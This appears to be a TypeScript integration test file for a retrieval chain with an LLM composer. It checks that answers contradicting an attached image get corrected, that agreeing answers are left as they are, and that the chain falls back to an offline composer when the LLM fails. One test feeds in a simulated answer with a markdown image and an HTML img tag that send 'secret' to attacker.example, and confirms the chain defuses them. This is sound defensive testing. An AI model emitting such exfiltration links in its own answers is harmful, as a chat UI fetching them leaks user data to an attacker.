/**
 * The chain with an LLM composer (a local OpenAI-compatible server stands in for the paid API), over a
 * real Milvus Lite and the bundled pack: the prompt carries the evidence and the VQA findings inside the
 * untrusted-data block; an LLM answer that contradicts the attached image is caught by the verify step;
 * a failing LLM falls back to the offline composer and says so.
 */
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createChatModel } from "../../src/llm/chat-model.ts";
import { loadPrompts } from "../../src/llm/prompts.ts";
import { createLogger } from "../../src/logger.ts";
import type { LoupeChainRunnable } from "../../src/rag/chain.ts";
import { ANSWER_PROMPT_ID, ANSWER_PROMPT_VARIABLES, createLlmComposer } from "../../src/rag/llm-composer.ts";
import type { ChatEvent } from "../../src/rag/types.ts";
import { assembleServices } from "../../src/services.ts";
import { COLORS } from "../../src/synth/domain.ts";
import { createRng, deriveSeed, renderScene, type Scene, sampleScene } from "../../src/synth/index.ts";
import { messageText, type OpenAiTestServer, startOpenAiTestServer } from "../helpers/openai-server.ts";
import { type IngestHarness, multipart, startIngestHarness } from "../ingest/harness.ts";

const ROOT = path.join(import.meta.dirname, "..", "..");

describe("the chain with an LLM composer", () => {
  let harness: IngestHarness;
  let llmServer: OpenAiTestServer;
  let chain: LoupeChainRunnable;
  /** An image with exactly one object of some shape whose color the head reads with ≥ 0.9. */
  let confident: { bytes: Uint8Array; shape: string; color: string; probability: number };

  beforeAll(async () => {
    harness = await startIngestHarness({ name: "chainllm" });
    llmServer = await startOpenAiTestServer();
    const logger = createLogger({ level: "silent" });
    const prompts = await loadPrompts({
      dir: path.join(ROOT, "prompts"),
      required: { [ANSWER_PROMPT_ID]: ANSWER_PROMPT_VARIABLES },
    });
    const chatModel = createChatModel({
      model: "test-model",
      baseUrl: llmServer.url,
      apiKey: "test-key",
      timeoutMs: 3000,
      maxRetries: 1,
      temperature: 0,
      maxTokens: 256,
      logger,
    });
    const llm = createLlmComposer({ chatModel, prompts, vision: true, logger });
    chain = assembleServices({ ...harness.services, llm, logger }).chain;

    const files: Array<{ name: string; bytes: Uint8Array }> = [];
    const scenes: Scene[] = [];
    for (let index = 0; index < 30; index += 1) {
      const scene = sampleScene(createRng(deriveSeed(31, "scene", index)));
      const rendered = await renderScene(scene, {
        size: 256,
        format: "jpeg",
        seed: deriveSeed(31, "render", index),
      });
      scenes.push(scene);
      files.push({ name: `scene-${index}.jpg`, bytes: new Uint8Array(rendered.data) });
    }
    const response = await harness.app.request("/v1/images", { method: "POST", body: multipart({ files }) });
    expect(response.status).toBe(200);

    const head = harness.models.vqaHead;
    if (head === undefined) throw new Error("the bundled pack has a VQA head");
    for (const [index, scene] of scenes.entries()) {
      const counts = new Map<string, number>();
      for (const object of scene.objects) counts.set(object.shape, (counts.get(object.shape) ?? 0) + 1);
      const object = scene.objects.find((candidate) => counts.get(candidate.shape) === 1);
      if (object === undefined) continue;
      const bytes = files[index]?.bytes as Uint8Array;
      const [best] = await head.answer({
        image: bytes,
        question: `What color is the ${object.shape}?`,
        topK: 1,
      });
      if (best?.answer === object.color && best.probability >= 0.9) {
        confident = { bytes, shape: object.shape, color: object.color, probability: best.probability };
        break;
      }
    }
    expect(confident, "a scene whose color the head reads confidently").toBeDefined();
  }, 300_000);

  afterAll(async () => {
    await llmServer?.close();
    await harness?.dispose();
  });

  it("catches an LLM answer that contradicts the attached image, corrects it and lowers the confidence", async () => {
    const wrong = COLORS.find((color) => color !== confident.color) as string;
    llmServer.reply({ text: `The ${confident.shape} is ${wrong} [att_1].` });
    const events: ChatEvent[] = [];
    for await (const event of chain.events({
      tenant: "default",
      question: `What color is the ${confident.shape}?`,
      images: [{ bytes: confident.bytes }],
    })) {
      events.push(event);
    }
    const done = events.at(-1);
    if (done?.type !== "done") throw new Error("the stream ends with done");
    const result = done.data;
    expect(result.composer).toBe("llm");
    expect(result.model).toBe("test-model");
    expect(result.verification.contradictions).toEqual([
      expect.objectContaining({ evidenceId: "att_1", stated: wrong, observed: confident.color }),
    ]);
    expect(result.verification.corrected).toBe(true);
    expect(result.answer).toContain("Correction:");
    expect(result.answer).toContain(confident.color);
    expect(result.confidence).toBeLessThanOrEqual(1 - 0.9 + 1e-9);
    // The streamed deltas add up to the final answer, correction included.
    const streamed = events
      .filter((event) => event.type === "answer-delta")
      .map((event) => (event.type === "answer-delta" ? event.data.text : ""))
      .join("");
    expect(streamed).toBe(result.answer);

    // What the LLM was sent: the VQA finding with its probability, inside the untrusted block, and the image.
    const request = llmServer.chatRequests.at(-1);
    const user = request?.body?.messages?.find((message) => message.role === "user");
    const text = messageText(user);
    const block = text.slice(text.indexOf("<untrusted-data>"), text.indexOf("</untrusted-data>"));
    expect(block).toContain("att_1");
    expect(block).toContain(confident.color);
    expect(JSON.stringify(user?.content)).toContain("data:image/jpeg;base64,");
  }, 120_000);

  it("leaves an LLM answer that agrees with the image as it is", async () => {
    llmServer.reply({ text: `The ${confident.shape} is ${confident.color} [att_1].` });
    const result = await chain.invoke({
      tenant: "default",
      question: `What color is the ${confident.shape}?`,
      images: [{ bytes: confident.bytes }],
    });
    expect(result.answer).toBe(`The ${confident.shape} is ${confident.color} [att_1].`);
    expect(result.verification).toMatchObject({
      checked: 1,
      confirmed: 1,
      contradictions: [],
      corrected: false,
    });
    expect(result.citations.map((citation) => citation.id)).toEqual(["att_1"]);
  }, 60_000);

  it("defuses markdown images, links and HTML an LLM answer could make a chat UI fetch or follow", async () => {
    llmServer.reply({
      deltas: [
        `The ${confident.shape} is ${confident.color} [att_1]. !`,
        "[pixel](https://attacker.example/?q=secret) <",
        "img src=https://attacker.example/x>",
      ],
    });
    const events: ChatEvent[] = [];
    for await (const event of chain.events({
      tenant: "default",
      question: `What color is the ${confident.shape}?`,
      images: [{ bytes: confident.bytes }],
    })) {
      events.push(event);
    }
    const done = events.at(-1);
    if (done?.type !== "done") throw new Error("the stream ends with done");
    const streamed = events.map((event) => (event.type === "answer-delta" ? event.data.text : "")).join("");
    expect(streamed).toBe(done.data.answer);
    expect(done.data.answer).not.toContain("![");
    expect(done.data.answer).not.toContain("<img");
    expect(done.data.answer).not.toContain("](https://");
    // The link's text and destination stay readable as plain text, its scheme defanged.
    expect(done.data.answer).toContain("pixel (https[:]//attacker.example/?q=secret)");
    expect(done.data.answer).toContain(`The ${confident.shape} is ${confident.color} [att_1].`);
  }, 60_000);

  it("falls back to the offline composer when the LLM fails, and says so", async () => {
    llmServer.reply({ status: 500 }, { status: 500 });
    const result = await chain.invoke({
      tenant: "default",
      question: `What color is the ${confident.shape}?`,
      images: [{ bytes: confident.bytes }],
    });
    expect(result.composer).toBe("offline");
    expect(result.fallback?.code).toMatch(/^llm_/);
    expect(result.answer).toContain(confident.color);
  }, 60_000);
});
